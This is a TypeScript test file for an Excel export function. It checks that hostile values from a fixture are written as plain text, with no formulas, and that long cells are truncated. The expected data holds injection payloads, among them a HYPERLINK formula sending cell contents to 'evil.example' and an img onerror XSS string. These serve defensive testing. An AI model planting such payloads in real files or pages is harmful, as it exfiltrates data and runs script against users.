import { strFromU8, unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/universal';
import { describe, expect, it } from 'vitest';
import { hostileTable } from './fixtures/hostile-table.ts';
import { writeXlsx } from './write-xlsx.ts';

describe('writeXlsx', () => {
  it('has the documents on one sheet and the settings on another', async () => {
    const bytes = await writeXlsx(hostileTable);
    const [documents, settings] = await readXlsxFile(bytes.buffer, { trim: false });
    expect(documents!.sheet).toBe('Documents');
    const [header, first, second, third] = documents!.data;
    expect(header!.slice(8)).toEqual(['state', 'P(vision)', 'P(=language)']);
    expect(first!.slice(2, 6)).toEqual(['vision', 0.9, '=language', 0.1]);
    expect(second!.slice(0, 2)).toEqual([
      '@SUM(1)|x',
      '=HYPERLINK("http://evil.example/?" & A1)\n<img src=x onerror=alert(1)>[a](b)',
    ]);
    expect(third!.slice(0, 4)).toEqual(['-2+3', ' \t+1', null, null]);
    expect(settings).toMatchObject({
      sheet: 'Settings',
      data: expect.arrayContaining([
        ['model', 'MiniLM'],
        ['threshold', 0.35],
        ['Taglight', '0.1.0'],
      ]),
    });
  });

  it('has no formulas, and no cell longer than Excel takes', async () => {
    const rows = [{ ...hostileTable.rows[1]!, name: `=${'x'.repeat(40_000)}` }];
    const bytes = await writeXlsx({ ...hostileTable, rows });
    const files = Object.entries(unzipSync(bytes)).map(([, file]) => strFromU8(file));
    expect(files.join('')).not.toMatch(/<f[ >]/);
    const [documents] = await readXlsxFile(bytes.buffer);
    expect(documents!.data[1]![0]).toHaveLength(32_767);
  });
});
